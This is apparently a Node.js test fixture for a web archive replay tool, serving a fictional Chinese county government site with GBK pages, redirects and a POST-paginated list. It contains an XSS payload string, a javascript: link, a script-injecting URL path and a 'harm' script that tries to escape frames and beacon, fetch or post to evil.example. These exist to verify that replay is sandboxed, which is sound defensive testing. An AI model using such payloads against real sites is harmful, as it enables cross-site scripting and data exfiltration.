// An invented county in small: pages made to be replayed (declared and undeclared GBK, redirects, style sheets, pictures,
// scripts) and pages made to do harm. `generation` 1 has one document edited and one gone.
import http from 'node:http';

const gbk = (() => {
  const table = new Map();
  const decoder = new TextDecoder('gbk');
  for (let high = 0x81; high <= 0xfe; high++)
    for (let low = 0x40; low <= 0xfe; low++) {
      if (low === 0x7f) continue;
      const text = decoder.decode(Uint8Array.of(high, low));
      if (text.length === 1 && !table.has(text)) table.set(text, [high, low]);
    }
  return (text) => Buffer.from([...text].flatMap((c) => (c.codePointAt(0) < 128 ? [c.codePointAt(0)] : (table.get(c) ?? [63]))));
})();

// 1 × 1 pixel.
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

export const attack = `<script>parent.hurt=top.hurt=self.hurt=1;document.title="hurt"</script>"><img src=x onerror="top.hurt=1;self.hurt=1">`;
const escaped = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

const documents = [
  ['t1', '关于城东片区集体土地征迁补偿安置方案的公告', '青政〔2018〕12号', '2018-03-29', '土地征迁'],
  ['t2', '关于做好防汛抗旱工作的通知', '青政办〔2018〕7号', '2018-05-02', '通知公告'],
  ['t3', '2018年财政预算公开说明', '青财〔2018〕3号', '2018-02-11', '财政信息'],
  ['t4', attack, '青政〔2018〕99号', '2018-04-01', '通知公告'],
];

const text = (id, generation) =>
  id === 't1'
    ? `为推进城东片区建设,现将集体土地征迁补偿安置方案公告如下。青苗补偿标准为每亩${generation ? '两千八百' : '两千五百'}元,安置房由县住建局统一分配。` +
      '被征迁户应在公告之日起三十日内到所在乡镇办理登记。逾期不办理的,按有关规定处理。对补偿标准有异议的,可以向县人民政府申请裁决。'
    : `各乡镇人民政府,县直各单位:为做好本年度工作,现将有关事项通知如下。第一条,加强组织领导,落实责任到人,确保各项工作按时完成。编号 ${id}。` +
      '第二条,各单位应当于每月月底前报送工作进展,并对存在的问题提出整改措施。第三条,本通知自发布之日起施行。';

const page = (title, body, head = '') =>
  `<!doctype html><html><head><meta charset="utf-8"><title>${escaped(title)}</title><link rel="stylesheet" href="/css/site.css">${head}</head>` +
  `<body><div class="top"><img src="/img/logo.png" alt="县徽" width="40"><a href="/">青岚县人民政府</a></div>${body}</body></html>`;

const documentPage = ([id, title, number, date, column], generation) =>
  page(
    title,
    `<h1>${escaped(title)}</h1><table><tr><td>文号</td><td>${number}</td><td>发布日期</td><td>${date}</td></tr></table>` +
      `<div class="content TRS_Editor" id="zoom"><p>${text(id, generation)}</p></div><p id="script">脚本未运行</p><script src="/js/app.js"></script>`,
    `<meta name="ArticleTitle" content="${escaped(title)}"><meta name="PubDate" content="${date}">` +
      `<meta name="ColumnName" content="${column}"><meta name="ContentSource" content="青岚县人民政府办公室">`,
  );

const list = (generation) =>
  page(
    '政务公开',
    '<ul class="list">' +
      documents
        .filter(([id]) => !(generation && id === 't3'))
        .map(([id, title, , date]) => `<li><a href="/zwgk/${id}.html">${escaped(title)}</a><span>${date}</span></li>`)
        .join('') +
      '</ul>',
  );

// A list whose rows a script asks for by POST, as in Epoint's CMS.
const lines = ['农村饮水安全公告', '义务教育招生公告', '道路维修公告'];
const perPage = 2;
const postedList = page(
  '公告',
  `<input type="hidden" id="categorynum" value="006001"><ul id="infolist"></ul><button id="next" onclick="getList(1)">下一页</button><script>
var siteInfo={projectName:'/EpointWebBuilder',siteGuid:'7eb5f7f1-9041-43ad-8e13-8fcb82ea831a'};
var categorynum='006001',deptcode='QL001',pageSize=${perPage};
function show(d){document.getElementById('infolist').innerHTML=d.custom.data.map(function(r){return '<li><a href="'+r.infourl+'">'+r.title+'</a><span>'+r.infodate+'</span></li>';}).join('');}
function getList(i){$.ajax({type:'post',url:siteInfo.projectName+'/rest/lightfrontaction/getgovinfolist',contentType:'application/json',data:JSON.stringify({deptcode:deptcode,title:'',categorynum:categorynum,siteGuid:siteInfo.siteGuid,pageIndex:i,pageSize:pageSize}),success:show});}
getList(0);
</script>`,
  '<script src="/js/ajax.js"></script>',
);
const posted = (asked) => {
  const { pageIndex } = JSON.parse(asked);
  const data = lines.map((title, i) => ({ title, infourl: `/govxxgk/1/2018-03-0${i + 1}/${i}.html`, infodate: `2018-03-0${i + 1}` }));
  return JSON.stringify({ custom: { code: 1, total: lines.length, data: data.slice(pageIndex * perPage, (pageIndex + 1) * perPage) } });
};
const postPath = '/EpointWebBuilder/rest/lightfrontaction/getgovinfolist';

// What an archived page may try; tests/browser/replay.js looks that it gets nowhere.
const harm = `
  try { top.hurt = 1 } catch {}
  try { parent.parent.hurt = 1 } catch {}
  try { top.document.title = 'hurt' } catch {}
  try { top.location = 'http://evil.example/top' } catch {}
  new Image().src = 'http://evil.example/pixel.png';
  try { navigator.sendBeacon('http://evil.example/beacon', 'x') } catch {}
  fetch('http://evil.example/fetch').catch(() => {});
  try { new WebSocket('ws://evil.example/socket') } catch {}
  try { open('http://evil.example/window') } catch {}
  const form = document.createElement('form');
  form.action = 'http://evil.example/form'; form.method = 'post'; document.body.append(form);
  try { form.submit() } catch {}
  const frame = document.createElement('iframe');
  frame.src = 'http://evil.example/frame'; document.body.append(frame);
  const link = document.createElement('link');
  link.rel = 'stylesheet'; link.href = 'http://evil.example/style.css'; document.head.append(link);
  document.body.dataset.tried = 1;`;

const gbkText = '青岚县气象局今日发布天气预报。未来三天全县以多云天气为主,气温在十二度至二十度之间,请市民注意增减衣物,防范大风降温。';

export const routes = (generation) => {
  const html = (body, status = 200, headers = {}) => ({ status, headers: { 'Content-Type': 'text/html; charset=utf-8', ...headers }, body });
  const all = {
    '/': html(
      page(
        '青岚县人民政府',
        '<h1>青岚县人民政府</h1><ul><li><a href="/zwgk/">政务公开</a></li><li><a href="/qx/gbk.html">天气</a></li>' +
          '<li><a href="/old.html">旧址</a></li><li><a href="/harm.html">其他</a></li><li><a href="/q.html?a=1&amp;b=%D5%F7">查询</a></li>' +
          '<li><a href="/x%22%3E%3Cscript%3Ealert(1)%3C/script%3E.html">怪址</a></li><li><a href="/qx/declared.html">天气二</a></li>' +
          '<li><a href="/006/006001/govlist.html">公告</a></li></ul>',
      ),
    ),
    '/zwgk/': html(list(generation)),
    '/006/006001/govlist.html': html(postedList),
    '/js/ajax.js': {
      status: 200,
      headers: { 'Content-Type': 'application/javascript' },
      body: 'self.$={ajax:(o)=>fetch(o.url,{method:o.type,headers:{"Content-Type":o.contentType},body:o.data}).then((r)=>r.json()).then(o.success)};',
    },
    '/old.html': html('', 301, { Location: '/zwgk/t1.html' }),
    '/qx/gbk.html': {
      status: 200,
      headers: { 'Content-Type': 'text/html' },
      body: gbk(`<html><head><title>天气预报</title></head><body><h1>天气预报</h1><p id="t">${gbkText}</p></body></html>`),
    },
    '/qx/declared.html': {
      status: 200,
      headers: { 'Content-Type': 'text/html' },
      body: gbk(`<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"><title>天气预报</title></head><body><p id="t">${gbkText}镕</p></body></html>`),
    },
    '/harm.html': html(page('其他', `<p>其他页面</p><div id="banner">假的</div>${attack}<a href="javascript:top.hurt=1">按此</a><script>${harm}</script>`)),
    '/q.html?a=1&b=%D5%F7': html(page('查询结果', '<p id="q">查询到一条结果</p>')),
    '/x%22%3E%3Cscript%3Ealert(1)%3C/script%3E.html': html(page('怪址', '<p>怪址页面</p>')),
    '/css/site.css': { status: 200, headers: { 'Content-Type': 'text/css' }, body: 'body{background:rgb(240,248,255) url(../img/bg.png) no-repeat}h1{color:rgb(128,0,32)}.top{padding:8px}' },
    '/js/app.js': {
      status: 200,
      headers: { 'Content-Type': 'application/javascript' },
      body: "fetch('/data.json').then((r)=>r.json()).then((d)=>{document.getElementById('script').textContent='脚本:'+d.word});",
    },
    '/data.json': { status: 200, headers: { 'Content-Type': 'application/json' }, body: '{"word":"已运行"}' },
    '/img/logo.png': { status: 200, headers: { 'Content-Type': 'image/png' }, body: png },
    '/img/bg.png': { status: 200, headers: { 'Content-Type': 'image/png' }, body: png },
  };
  for (const [i, title] of lines.entries()) all[`/govxxgk/1/2018-03-0${i + 1}/${i}.html`] = html(page(title, `<h1>${title}</h1><p>${text(`n${i}`, 0)}</p>`));
  for (const d of documents) if (!(generation && d[0] === 't3')) all[`/zwgk/${d[0]}.html`] = html(documentPage(d, generation));
  return all;
};

export const startSite = (generation) =>
  new Promise((resolve) => {
    const answers = routes(generation);
    const server = http.createServer(async (request, response) => {
      let asked = '';
      for await (const bytes of request) asked += bytes;
      const rows = request.method === 'POST' && request.url === postPath && { status: 200, headers: { 'Content-Type': 'application/json' }, body: posted(asked) };
      const found = rows || answers[request.url] || { status: 404, headers: { 'Content-Type': 'text/html; charset=utf-8' }, body: '<h1>404</h1>没有这个页面' };
      response.writeHead(found.status, found.headers);
      response.end(found.body);
    });
    server.listen(0, '127.0.0.1', () => resolve({ port: server.address().port, stop: () => new Promise((done) => { server.closeAllConnections(); server.close(done); }) }));
  });
